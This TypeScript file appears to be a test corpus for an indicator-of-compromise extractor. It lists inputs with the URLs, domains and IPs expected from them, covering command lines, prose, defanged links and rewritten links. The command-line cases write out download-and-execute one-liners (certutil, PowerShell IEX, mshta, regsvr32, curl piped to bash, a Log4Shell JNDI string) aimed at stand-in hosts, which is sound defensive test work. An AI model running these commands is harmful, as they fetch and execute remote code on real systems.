import type { Group } from './corpus.js';

export const URLS: readonly Group[] = [
  {
    name: 'URLs in command lines', source: 'manner of living-off-the-land commands (lolbas-project.github.io, gtfobins.github.io)',
    cases: String.raw`
certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe
=> url http://203.0.113.9/a.exe | ipv4 203.0.113.9
powershell -c "IEX (New-Object Net.WebClient).DownloadString('https://evil-ps.com/x.ps1')"
=> url https://evil-ps.com/x.ps1 | domain evil-ps.com
mshta https://evil-hta.com/a.hta
=> url https://evil-hta.com/a.hta | domain evil-hta.com
bitsadmin /transfer job /download /priority high http://evil-bits.net/p.exe C:\Temp\p.exe
=> url http://evil-bits.net/p.exe | domain evil-bits.net | windows_path C:\Temp\p.exe
curl -s http://evil-sh.com/i.sh|bash
=> url http://evil-sh.com/i.sh | domain evil-sh.com
wget -qO- http://evil-sh2.com/i.sh;sh
=> url http://evil-sh2.com/i.sh | domain evil-sh2.com
curl http://evil-sh3.com/i&&chmod +x i
=> url http://evil-sh3.com/i | domain evil-sh3.com
(curl -fsSL http://evil-cron.com/m||wget -q -O- http://evil-cron.com/m)|sh
=> url http://evil-cron.com/m | domain evil-cron.com
regsvr32 /s /n /u /i:http://evil-sct.com/f.sct scrobj.dll
=> url http://evil-sct.com/f.sct | domain evil-sct.com
msiexec /q /i http://203.0.113.10:8080/s.msi
=> url http://203.0.113.10:8080/s.msi | ipv4 203.0.113.10
Invoke-WebRequest -Uri "https://evil-iwr.com/a b" -OutFile x
=> url https://evil-iwr.com/a | domain evil-iwr.com
xmrig -o stratum+tcp://pool.evil-mine.com:3333 -u x
=> url stratum+tcp://pool.evil-mine.com:3333 | domain pool.evil-mine.com
git clone https://github.com/evil/tool.git
=> url https://github.com/evil/tool.git | domain github.com
java -jar x.jar \${jndi:ldap://203.0.113.11:1389/Exploit}
=> url ldap://203.0.113.11:1389/Exploit | ipv4 203.0.113.11
process /url:https://some.domain.it/thepath?qry1=abc&qry2=xyz
=> url https://some.domain.it/thepath?qry1=abc&qry2=xyz | domain some.domain.it
process /url:https://myuser@some.domain.es:88/thepath?qry1=abc"<trailing
=> url https://myuser@some.domain.es:88/thepath?qry1=abc | domain some.domain.es
start "" "microsoft-edge:https://evil-edge.com/"
=> url https://evil-edge.com/ | domain evil-edge.com
curl ftp://evil-ftp.com/x -u a:b
=> url ftp://evil-ftp.com/x | domain evil-ftp.com
rundll32 url.dll,OpenURL file://203.0.113.12/share/x.hta
=> url file://203.0.113.12/share/x.hta | ipv4 203.0.113.12
telnet://evil-tel.com:23
=> url telnet://evil-tel.com:23 | domain evil-tel.com`,
  },
  {
    name: 'URLs in prose and markup', source: 'RFC 3986 appendix C (delimiting a URI in context); Markdown, HTML, JSON',
    cases: String.raw`
See https://evil-prose.com/a, then http://evil-prose.net/b.
=> url https://evil-prose.com/a | domain evil-prose.com | url http://evil-prose.net/b | domain evil-prose.net
(see http://evil-paren.com/a_(b)).
=> url http://evil-paren.com/a_(b) | domain evil-paren.com
(http://evil-paren2.com).
=> url http://evil-paren2.com | domain evil-paren2.com
[report](https://evil-md.com/r.pdf) and <https://evil-angle.com/>
=> url https://evil-md.com/r.pdf | domain evil-md.com | url https://evil-angle.com/ | domain evil-angle.com
[https://evil-md2.com/x](https://evil-md2.com/x)
=> url https://evil-md2.com/x | domain evil-md2.com
<a href="http://evil-html.com/login?x=1&amp;y=2">click</a>
=> url http://evil-html.com/login?x=1&amp;y=2 | domain evil-html.com
{"url":"https:\/\/evil-json.com\/p\/a.php"}
=> url https://evil-json.com/p/a.php | domain evil-json.com
{"url":"https://evil-json2.com/a","n":1}
=> url https://evil-json2.com/a | domain evil-json2.com
http://evil-list.com/a,http://evil-list.com/b
=> url http://evil-list.com/a | url http://evil-list.com/b | domain evil-list.com
HTTP://EVIL-CASE.COM/Path/File
=> url http://evil-case.com/Path/File | domain evil-case.com
„https://evil-de.de/pfad“ wurde geöffnet
=> url https://evil-de.de/pfad | domain evil-de.de
voir « http://evil-fr.fr/x » pour le détail
=> url http://evil-fr.fr/x | domain evil-fr.fr
访问http://evil-zh.cn/a.exe下载木马
=> url http://evil-zh.cn/a.exe | domain evil-zh.cn
下载地址：http://evil-zh2.cn/b.exe。
=> url http://evil-zh2.cn/b.exe | domain evil-zh2.cn
https://zh.wikipedia.org/wiki/恶意软件
=> url https://zh.wikipedia.org/wiki/恶意软件 | domain zh.wikipedia.org
http://пример-атака.рф/вход
=> url http://пример-атака.рф/вход | domain пример-атака.рф
http://[2001:db8::9]:8080/a
=> url http://[2001:db8::9]:8080/a | ipv6 2001:db8::9
http://localhost:8080/admin
=> url http://localhost:8080/admin
http://3405803789/x
=> url http://3405803789/x | ipv4 203.0.113.13
http://0xcb.0x00.0x71.0x0e/x
=> url http://0xcb.0x00.0x71.0x0e/x | ipv4 203.0.113.14
wss://evil-ws.com/socket?id=1#frag
=> url wss://evil-ws.com/socket?id=1#frag | domain evil-ws.com
http://evil-session.com/a;jsessionid=1A2B?x=1
=> url http://evil-session.com/a;jsessionid=1A2B?x=1 | domain evil-session.com
Links:⏎http://evil-l1.com/a⏎http://evil-l2.com/b
=> url http://evil-l1.com/a | domain evil-l1.com | url http://evil-l2.com/b | domain evil-l2.com
"GET http://evil-proxy.com/x.zip HTTP/1.1" 200
=> url http://evil-proxy.com/x.zip | domain evil-proxy.com
url=http://evil-kv.com/x status=200
=> url http://evil-kv.com/x | domain evil-kv.com
line one\nhttp://evil-nl.com/x\nline two
=> url http://evil-nl.com/x | domain evil-nl.com
**http://evil-bold.com**
=> url http://evil-bold.com | domain evil-bold.com
http://evil-file.com/docs/readme.md and http://evil-file.com/evil.zip
=> url http://evil-file.com/docs/readme.md | url http://evil-file.com/evil.zip | domain evil-file.com
https://www.virustotal.com/en/ip-address/198.51.100.27/information/
=> url https://www.virustotal.com/en/ip-address/198.51.100.27/information/ | domain www.virustotal.com | ipv4 198.51.100.27
https://www.virustotal.com/gui/file/275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f
=> url https://www.virustotal.com/gui/file/275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f | domain www.virustotal.com | sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f`,
  },
  {
    name: 'defanged URLs', source: 'ways of defanging in vendors’ reports; MSTICPy’s documentation of hXXp and fXp',
    cases: String.raw`
hxxp://evil-a.com/x
=> url http://evil-a.com/x | domain evil-a.com
hXXps://evil-b[.]com/x
=> url https://evil-b.com/x | domain evil-b.com
hxxps[:]//evil-c[.]com
=> url https://evil-c.com | domain evil-c.com
hxxp[://]evil-d[.]com/gate.php
=> url http://evil-d.com/gate.php | domain evil-d.com
h**p://evil-e.com/
=> url http://evil-e.com/ | domain evil-e.com
meow://evil-f.com/x
=> url http://evil-f.com/x | domain evil-f.com
fxp://evil-g[.]com/x and fXps://evil-h[.]com
=> url ftp://evil-g.com/x | domain evil-g.com | url ftps://evil-h.com | domain evil-h.com
sfXp://evil-i.com/x
=> url sftp://evil-i.com/x | domain evil-i.com
http[:]//203[.]0[.]113[.]15/a
=> url http://203.0.113.15/a | ipv4 203.0.113.15
http(:)//evil-j(.)com
=> url http://evil-j.com | domain evil-j.com
hxxp:\\evil-k.com\x
=> url http://evil-k.com | domain evil-k.com
hxxp://evil-l[.]com[/]a[.]php
=> url http://evil-l.com/a.php | domain evil-l.com
https://evil-m[dot]com/p?q=1
=> url https://evil-m.com/p?q=1 | domain evil-m.com
hxxp://evil-n[.]com:8080/x, hxxp://evil-n[.]com/y
=> url http://evil-n.com:8080/x | url http://evil-n.com/y | domain evil-n.com
hxtp://evil-o.com/ htxp://evil-p.com/
=> url http://evil-o.com/ | domain evil-o.com | url http://evil-p.com/ | domain evil-p.com
ftp://www[.]evil-q.com/f
=> url ftp://www.evil-q.com/f | domain www.evil-q.com
hxxps://evil-r[.]com/%74%65st
=> url https://evil-r.com/%74%65st | domain evil-r.com
tcp[://]evil-v[.]com:4444
=> url tcp://evil-v.com:4444 | domain evil-v.com
https[:]//evil-w[.]com/path/[.]git/config
=> url https://evil-w.com/path/.git/config | domain evil-w.com
http:\\/\\/evil-x.com\\/x
=> url http://evil-x.com/x | domain evil-x.com
h__p://evil-s.com/a
=> url http://evil-s.com/a | domain evil-s.com
"hxxps://evil-t[.]top/login", "hxxps://evil-u[.]top/login"
=> url https://evil-t.top/login | domain evil-t.top | url https://evil-u.top/login | domain evil-u.top`,
  },
  {
    name: 'URLs inside of URLs', source: 'link rewriting of Safe Links, Proofpoint URL Defense and archives; RFC 3986 section 2.1 (percent-encoding)',
    cases: String.raw`
https://redir.example/?u=https%3A%2F%2Fevil-enc.com%2Fx%3Fa%3D1&z=2
=> url https://redir.example/?u=https%3A%2F%2Fevil-enc.com%2Fx%3Fa%3D1&z=2 | domain redir.example | url https://evil-enc.com/x?a=1 | domain evil-enc.com
https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2Fevil-safe.com%2Flogin&data=05
=> url https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2Fevil-safe.com%2Flogin&data=05 | domain eur01.safelinks.protection.outlook.com | url http://evil-safe.com/login | domain evil-safe.com
https://urldefense.com/v3/__https://evil-pp.com/x__;!!abc$
=> url https://urldefense.com/v3/__https://evil-pp.com/x__;!!abc | domain urldefense.com | url https://evil-pp.com/x | domain evil-pp.com
https://web.archive.org/web/2024/http://evil-arch.com/a
=> url https://web.archive.org/web/2024/http://evil-arch.com/a | domain web.archive.org | url http://evil-arch.com/a | domain evil-arch.com
next=https%253A%252F%252Fevil-double.com%252Fa
=> url https://evil-double.com/a | domain evil-double.com
goto=http%3a%2f%2f203.0.113.16%2fx
=> url http://203.0.113.16/x | ipv4 203.0.113.16
https://login.example/?return=//evil-rel.com
=> url https://login.example/?return=//evil-rel.com | domain login.example
https://translate.example/t?u=http://evil-nest.net/p&l=de
=> url https://translate.example/t?u=http://evil-nest.net/p&l=de | domain translate.example | url http://evil-nest.net/p | domain evil-nest.net`,
  },
];
